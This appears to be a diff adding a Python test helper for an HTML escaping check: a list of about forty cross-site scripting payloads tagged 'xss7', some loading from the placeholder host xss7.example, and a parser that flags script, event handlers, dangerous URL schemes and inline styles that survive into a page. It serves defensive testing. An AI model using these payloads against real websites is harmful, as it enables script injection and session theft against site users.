@@ -1,0 +1,92 @@
+"""Forty texts that would run somewhere if they were not text, and what a page may not contain. `xss7` marks what came from them."""
+
+from html.parser import HTMLParser
+
+MARK = "xss7"
+PAYLOADS = (
+    "<script>xss7()</script>",
+    "<ScRiPt src=//xss7.example></sCrIpT>",
+    "</script><script>xss7()</script>",
+    "</title><script>xss7()</script>",
+    "</textarea><script>xss7()</script>",
+    "</style><script>xss7()</script>",
+    "--><script>xss7()</script>",
+    "]]><script>xss7()</script>",
+    "<img src=x onerror=xss7()>",
+    '"><img src=x onerror=xss7()>',
+    "'><img src=x onerror=xss7()>",
+    '" onmouseover="xss7()" x="',
+    "' onfocus='xss7()' autofocus='",
+    "` onclick=`xss7()",
+    "<svg onload=xss7()>",
+    "<svg><script>xss7()</script></svg>",
+    "<svg/onload=xss7()//",
+    "<math><a xlink:href=javascript:xss7()>m</a></math>",
+    '<a href="javascript:xss7()">a</a>',
+    '<a href="java\tscript:xss7()">a</a>',
+    '<a href="&#106;avascript:xss7()">a</a>',
+    '<a href=" &#14; javascript:xss7()">a</a>',
+    '<a href="data:text/html,<script>xss7()</script>">a</a>',
+    '<a href="vbscript:xss7()">a</a>',
+    '<iframe src="javascript:xss7()"></iframe>',
+    "<iframe srcdoc='<script>xss7()</script>'></iframe>",
+    "<object data=javascript:xss7()></object>",
+    "<embed src=javascript:xss7()>",
+    "<form action=javascript:xss7()><button>xss7</button></form>",
+    "<button formaction=javascript:xss7()>x</button>",
+    "<input autofocus onfocus=xss7()>",
+    "<details open ontoggle=xss7()>",
+    "<video><source onerror=xss7()></video>",
+    "<body onload=xss7()>",
+    "<meta http-equiv=refresh content='0;url=javascript:xss7()'>",
+    "<base href=//xss7.example/>",
+    "<link rel=stylesheet href=//xss7.example/a.css>",
+    "<style>@import '//xss7.example/a.css';</style>",
+    "{{constructor.constructor('xss7()')()}}",
+    "<div style=\"background:url('javascript:xss7()')\" hx-get=//xss7.example>x</div>",
+    "&lt;script&gt;xss7()&lt;/script&gt;",
+    "\u003cscript\u003exss7()\u003c/script\u003e",
+)
+URLS = {"href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href", "content", "background", "hx-get", "hx-post", "srcdoc"}
+BAD_SCHEMES = ("javascript:", "vbscript:", "data:text")
+
+
+class Danger(HTMLParser):
+    """Reads a page as a browser would and notes what would run or load something that came from a payload."""
+
+    def __init__(self, html: str, *, strict: bool) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[str] = []
+        self.strict = strict
+        self._in_script = False
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self._in_script = tag in {"script", "style"}
+        given = {name: value or "" for name, value in attrs}
+        if self.strict and ((tag == "script" and "src" not in given) or tag in {"iframe", "object", "embed", "base", "style"}):
+            self.found.append(f"<{tag}>")
+        for name, value in given.items():
+            self._look_at(tag, name, value)
+
+    def _look_at(self, tag: str, name: str, value: str) -> None:
+        plain = "".join(character for character in value if character > " ").lower()
+        if MARK in name or (name.startswith("on") and (self.strict or MARK in value)):
+            self.found.append(f"<{tag} {name}={value[:60]}>")
+        if name in URLS and (plain.startswith(BAD_SCHEMES) or f"//{MARK}" in plain):
+            self.found.append(f"<{tag} {name}={value[:60]}>")
+        if name == "style" and (self.strict or MARK in value):
+            self.found.append(f"<{tag} style={value[:60]}>")
+
+    def handle_endtag(self, tag: str) -> None:
+        self._in_script = False
+
+    def handle_data(self, data: str) -> None:
+        if self._in_script and f"{MARK}()" in data and "&" not in data and "\\u003" not in data:
+            self.found.append(f"script: {data[:80]}")
+
+
+def dangers(html: str, *, strict: bool) -> list[str]:
+    """What would run. `strict`: a page of the public site, which has no inline script, handler or style at all."""
+    return Danger(html, strict=strict).found
